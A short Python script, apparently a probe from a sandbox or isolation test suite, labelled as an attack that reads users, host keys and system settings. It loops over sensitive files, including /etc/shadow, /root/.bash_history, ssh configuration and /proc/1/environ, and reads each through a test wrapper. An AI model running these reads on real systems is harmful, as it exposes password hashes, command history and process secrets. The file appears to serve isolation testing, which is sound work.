"""
attack: reads users, host keys and settings of the system
verdict: full
"""

from honest import attempt, class_activation_map, top_predictions

for name in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.bash_history", "/etc/ssh/ssh_config", "/proc/1/environ", "/proc/1/cmdline"):
    attempt(name, lambda: open(name).read())
